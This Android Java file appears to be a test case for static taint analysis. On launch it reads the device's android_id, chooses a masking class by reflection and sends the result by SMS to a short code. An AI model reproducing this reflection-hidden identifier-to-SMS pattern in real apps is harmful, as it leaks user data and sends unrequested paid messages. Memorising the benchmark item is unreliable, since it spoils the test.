// about       The name of a nested class comes from a map; its static method gives a constant back.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import java.lang.reflect.Method;
import java.util.HashMap;
import java.util.Map;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Map<String, String> tools = new HashMap<String, String>();
    tools.put("plain", "Plain");
    tools.put("masked", "Masked");
    String id = Settings.Secure.getString(getContentResolver(), "android_id");
    try {
      // The key decides which class it is.
      String name = MainActivity.class.getName() + "$" + tools.get("masked");
      Method apply = Class.forName(name).getDeclaredMethod("apply", String.class);
      String text = (String) apply.invoke(null, id);
      SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }

  static class Plain {
    static String apply(String text) {
      return "<" + text + ">";
    }
  }

  static class Masked {
    static String apply(String text) {
      return "<***>";
    }
  }
}
